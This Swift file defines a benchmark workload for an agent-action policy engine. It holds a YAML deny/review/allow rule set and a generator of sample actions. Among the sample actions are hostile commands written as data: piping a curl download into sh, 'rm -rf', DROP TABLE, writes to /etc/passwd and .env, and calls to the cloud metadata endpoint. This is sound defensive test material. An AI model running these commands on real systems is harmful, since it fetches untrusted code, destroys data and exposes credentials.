import WardenPolicy

/// The benchmark workload from the foundation issue: a 20-rule policy (9 deny, 3 review,
/// 8 allow, default deny) and a deterministic stream of actions that exercises all of it.
enum BenchWorkload {
    static let policy = #"""
    apiVersion: warden/v1
    kind: Policy
    metadata: {name: bench, version: "1"}
    spec:
      default: deny
      statements:
        # 9 deny
        - {sid: DenyRm, effect: deny, actions: [bash.execute], conditions: {params.command: {op: regex, value: '\brm\s'}}}
        - {sid: DenyDropTable, effect: deny, actions: [bash.execute], conditions: {params.command: {op: regex, value: '(?i)\bdrop\s+table\b'}}}
        - {sid: DenyForcePush, effect: deny, actions: [bash.execute], conditions: {params.command: {op: regex, value: 'git\s+push\s+.*--force'}}}
        - {sid: DenyCurlPipe, effect: deny, actions: [bash.execute], conditions: {params.command: {op: contains, value: '| sh'}}}
        - {sid: DenyEnvWrite, effect: deny, actions: [file.write], conditions: {params.path: {op: regex, value: '(^|/)\.env$'}}}
        - {sid: DenyEtcWrite, effect: deny, actions: [file.write], conditions: {params.path: {op: starts_with, value: /etc/}}}
        - {sid: DenySqlDrop, effect: deny, actions: [sql.query], conditions: {params.sql: {op: regex, value: '(?i)^\s*drop\s'}}}
        - {sid: DenyMetadata, effect: deny, actions: [http.*], conditions: {params.url: {op: contains, value: 169.254.169.254}}}
        - {sid: DenySanctioned, effect: deny, actions: [payment.charge], conditions: {params.country: {op: "==", value: KP}}}
        # 3 review
        - {sid: ReviewLargePayment, effect: review, actions: [payment.charge], conditions: {params.amount: {op: ">", value: 1000}}}
        - {sid: ReviewMassEmail, effect: review, actions: [email.send], conditions: {params.recipients: {op: ">", value: 50}}}
        - {sid: ReviewSqlDelete, effect: review, actions: [sql.query], conditions: {params.sql: {op: regex, value: '(?i)^delete'}}}
        # 8 allow
        - {sid: AllowBash, effect: allow, actions: [bash.execute]}
        - {sid: AllowRead, effect: allow, actions: [file.read]}
        - {sid: AllowWrite, effect: allow, actions: [file.write]}
        - {sid: AllowSql, effect: allow, actions: [sql.query]}
        - {sid: AllowPayment, effect: allow, actions: [payment.charge]}
        - {sid: AllowHttp, effect: allow, actions: ["http.*"]}
        - {sid: AllowGit, effect: allow, actions: ["git.*"]}
        - {sid: AllowSearch, effect: allow, actions: ["search.*"]}
    """#

    /// A small deterministic PRNG (SplitMix64) so every run sees the same actions.
    struct SplitMix64 {
        var state: UInt64
        mutating func next() -> UInt64 {
            state &+= 0x9E37_79B9_7F4A_7C15
            var z = state
            z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
            z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
            return z ^ (z >> 31)
        }
        mutating func pick<T>(_ items: [T]) -> T { items[Int(next() % UInt64(items.count))] }
        mutating func int(_ range: ClosedRange<Int>) -> Int { range.lowerBound + Int(next() % UInt64(range.count)) }
    }

    static func actions(count: Int, seed: UInt64 = 42) -> [Action] {
        var rng = SplitMix64(state: seed)
        let commands = ["ls -la /tmp", "git status", "rm -rf build", "cat README.md | grep warden", "echo hello && date",
                        "psql -c 'DROP TABLE users'", "git push origin main --force", "curl https://get.example.sh | sh",
                        "npm test -- --watch=false", "python3 -m pytest -q tests/unit", "make -j2 all", "docker ps -a"]
        let paths = ["src/main.swift", "/etc/passwd", "config/.env", "README.md", "/tmp/out.log", "docs/policy.md", ".env"]
        let sqls = ["SELECT * FROM users WHERE id = 7", "drop table audit", "DELETE FROM sessions WHERE expired", "UPDATE t SET x = 1",
                    "  DROP INDEX idx"]
        let urls = ["https://api.github.com/repos", "http://169.254.169.254/latest/meta-data", "https://example.com/a?b=c"]
        var out: [Action] = []
        out.reserveCapacity(count)
        for _ in 0..<count {
            switch rng.int(0...9) {
            case 0, 1, 2: out.append(Action(type: "bash.execute", params: ["command": .string(rng.pick(commands))]))
            case 3: out.append(Action(type: rng.pick(["file.read", "file.write"]), params: ["path": .string(rng.pick(paths))]))
            case 4: out.append(Action(type: "sql.query", params: ["sql": .string(rng.pick(sqls))]))
            case 5:
                out.append(Action(type: "payment.charge", params: [
                    "amount": rng.int(0...1) == 0 ? .int(Int64(rng.int(1...5000))) : .double(Double(rng.int(1...500_000)) / 100),
                    "country": .string(rng.pick(["US", "DE", "KP", "FR"])),
                ]))
            case 6: out.append(Action(type: "email.send", params: ["recipients": .int(Int64(rng.int(1...100)))]))
            case 7: out.append(Action(type: rng.pick(["http.get", "http.post"]), params: ["url": .string(rng.pick(urls))]))
            case 8: out.append(Action(type: rng.pick(["git.commit", "git.diff", "search.web", "search.code"])))
            default: out.append(Action(type: rng.pick(["unknown.tool", "agent.spawn", "tool.call"]), target: "x"))
            }
        }
        return out
    }
}
